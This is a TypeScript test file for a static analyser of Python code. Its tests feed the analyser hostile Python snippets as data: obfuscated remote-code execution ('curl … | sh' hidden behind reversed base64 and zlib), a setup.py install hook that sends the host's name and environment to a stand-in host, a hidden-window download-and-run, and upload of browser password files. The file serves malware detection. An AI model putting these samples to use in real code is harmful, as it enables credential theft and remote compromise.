import assert from "node:assert/strict";
import { describe, test } from "node:test";
import { deflateSync } from "node:zlib";
import type { Effect, EffectKind } from "@doorward/core";
import { onlyEffect, readFiles } from "./read-program.test-support.ts";

const address = "https://api.example/v1";
const characters = Array.from(address);

async function effectsOfPython(kind: EffectKind, source: string): Promise<readonly Effect[]> {
  const { effects } = await readFiles({ "main.py": source });
  return effects.filter((effect) => effect.kind === kind);
}

describe("a constant is known however it is written", () => {
  const reversed = characters.toReversed().join("");
  const masked = characters
    .map((character) => `\\x${(character.charCodeAt(0) ^ 5).toString(16).padStart(2, "0")}`)
    .join("");
  const forms: Readonly<Record<string, string>> = {
    concatenation: `"https://" + 'api.example' "/v1"`,
    "an f-string": `f"https://{'api'}.example/v1"`,
    "a slice": `"${reversed}"[::-1]`,
    base64: `__import__("base64").b64decode("${Buffer.from(address).toString("base64")}").decode()`,
    hex: `bytes.fromhex("${Buffer.from(address).toString("hex")}").decode("utf-8")`,
    rot13: `codecs.decode("uggcf://ncv.rknzcyr/i1", "rot13")`,
    "characters joined": `"".join([chr(c) for c in [${characters.map((character) => character.charCodeAt(0)).join(", ")}]])`,
    "characters masked in a comprehension": `"".join(chr(ord(c) ^ 5) for c in "${masked}")`,
    "a map over numbers": `"".join(map(chr, [${characters.map((character) => character.charCodeAt(0)).join(", ")}]))`,
    "percent formatting": `"https://%s.example/v1" % "api"`,
    format: `"https://{}.example/v1".format("api")`,
    "a dictionary": `{"url": "${address}"}["url"]`,
  };
  for (const [name, expression] of Object.entries(forms)) {
    test(name, async () => {
      const [request] = await effectsOfPython("request", `import requests, codecs\nrequests.get(${expression})\n`);
      assert.deepEqual(request?.subject.texts, [address]);
    });
  }

  test("a loop that puts characters together", async () => {
    const codes = characters.map((character) => character.charCodeAt(0) - 1);
    const source = `import requests\nurl = ""\nfor c in [${codes.join(", ")}]:\n    url += chr(c + 1)\nrequests.get(url)\n`;
    const [request] = await effectsOfPython("request", source);
    assert.deepEqual(request?.subject.texts, [address]);
  });

  test("compressed code behind several decoders is read as code", async () => {
    const code = `import os\nos.system("curl ${address} | sh")\n`;
    const hidden = Array.from(deflateSync(code).toString("base64")).toReversed().join("");
    const { effects } = await readFiles({
      "main.py": `import zlib, base64\n_ = lambda __: zlib.decompress(base64.b64decode(__[::-1]))\nexec((_)(b'${hidden}'))\n`,
    });
    const run = onlyEffect(effects, "run");
    assert.equal(run.layer, 1);
    assert.deepEqual(run.subject.texts, [`curl ${address} | sh`]);
    assert.deepEqual(onlyEffect(effects, "evaluate").subject.encodings, ["reversed", "base64", "compressed"]);
  });
});

describe("flows", () => {
  test("a program that another interpreter reads from its input", async () => {
    const source = `import requests, subprocess, sys\ncode = requests.get("${address}").text\nsubprocess.run([sys.executable, "-"], input=code)\np = subprocess.Popen([sys.executable], stdin=subprocess.PIPE)\np.communicate(code.encode())\n`;
    const evaluations = await effectsOfPython("evaluate", source);
    assert.deepEqual(
      evaluations.map(({ subject, traits }) => [subject.origins.some(({ kind }) => kind === "network"), ...traits]),
      [
        [true, "inline-code"],
        [true, "inline-code"],
      ],
    );
  });

  test("a temporary file whose name the system chooses is found again", async () => {
    const { effects } = await readFiles({
      "main.py": `import tempfile, subprocess\nwith tempfile.NamedTemporaryFile("w", suffix=".py") as f:\n    f.write("1")\nsubprocess.Popen(["python3", f.name])\n`,
    });
    assert.deepEqual(onlyEffect(effects, "run").subject.texts, ["python3 /tmp/temporary-file.py"]);
    assert.deepEqual(onlyEffect(effects, "write").subject.texts, ["/tmp/temporary-file.py"]);
  });

  test("compiled code that is loaded and run is machine code", async () => {
    const [evaluation] = await effectsOfPython(
      "evaluate",
      `import marshal, base64, requests\nexec(marshal.loads(base64.b64decode(requests.get("${address}").text)))\n`,
    );
    assert.deepEqual(evaluation?.traits, ["machine-code"]);
  });

  test("an answer is evaluated in another module, through a class", async () => {
    const { effects } = await readFiles({
      "main.py": `from tools.net import Client\nfrom tools import runner as r\nr.handle(Client("${address}").get())\n`,
      "tools/__init__.py": "",
      "tools/net.py": `import urllib.request as u\nclass Client:\n    def __init__(self, url):\n        self.url = url\n    def get(self):\n        with u.urlopen(self.url) as answer:\n            return answer.read().decode()\n`,
      "tools/runner.py": `def handle(report):\n    exec(compile(report, "r", "exec"), globals())\n`,
    });
    const [origin] = onlyEffect(effects, "evaluate").subject.origins;
    assert.equal(origin?.kind, "network");
    assert.deepEqual(origin.address?.texts, [address]);
    assert.deepEqual(
      origin.hops.map(({ path }) => path),
      ["main.py"],
    );
  });

  test("names put together reach the function they mean", async () => {
    const [run] = await effectsOfPython("run", `getattr(__import__("o" + "s"), "sys" + "tem")("id")\n`);
    assert.equal(run?.via, "os.system");
  });

  test("an install command of setup.py sends what the machine is", async () => {
    const { effects } = await readFiles({
      "setup.py": `from setuptools import setup\nfrom setuptools.command.install import install\nimport os, socket, requests\nclass Post(install):\n    def run(self):\n        install.run(self)\n        requests.post("${address}", json={"h": socket.gethostname(), "e": dict(os.environ)})\nsetup(name="a", cmdclass={"install": Post})\n`,
    });
    const request = onlyEffect(effects, "request");
    assert.notEqual(request.time, "dormant");
    assert.deepEqual(
      request.payload?.origins.map(({ kind }) => kind),
      ["host", "whole-environment"],
    );
  });

  test("a download is written and started without a window", async () => {
    const { effects } = await readFiles({
      "main.py": `import requests, subprocess\np = "/tmp/a.py"\nwith open(p, "wb") as f:\n    f.write(requests.get("${address}").content)\nsubprocess.Popen(["python3", p], creationflags=subprocess.CREATE_NO_WINDOW)\n`,
    });
    assert.deepEqual(
      onlyEffect(effects, "write").payload?.origins.map(({ kind }) => kind),
      ["network"],
    );
    assert.deepEqual(onlyEffect(effects, "run").traits, ["hidden-window"]);
  });

  test("a browser's passwords are uploaded", async () => {
    const { effects } = await readFiles({
      "main.py": `import os, requests\nfor b in ["Chrome", "Brave"]:\n    path = os.path.join(os.path.expanduser("~"), b, "Login Data")\n    requests.post("${address}", files={"f": open(path, "rb")})\n`,
    });
    const details = onlyEffect(effects, "request").payload?.origins.map(({ detail }) => detail);
    assert.deepEqual(details, ["~/Chrome/Login Data", "~/Brave/Login Data"]);
  });
});

test("broken Python is read as far as it goes, and nesting without end is left out", async () => {
  const { effects } = await readFiles({
    "a.py": "def f(:\n  x = = 3\nexec(y)\n",
    "b.py": `x = ${"(".repeat(50_000)}1\n`,
    "c.py": "if a:\n ".repeat(2000),
  });
  assert.equal(effects.filter(({ kind }) => kind === "evaluate").length, 1);
});
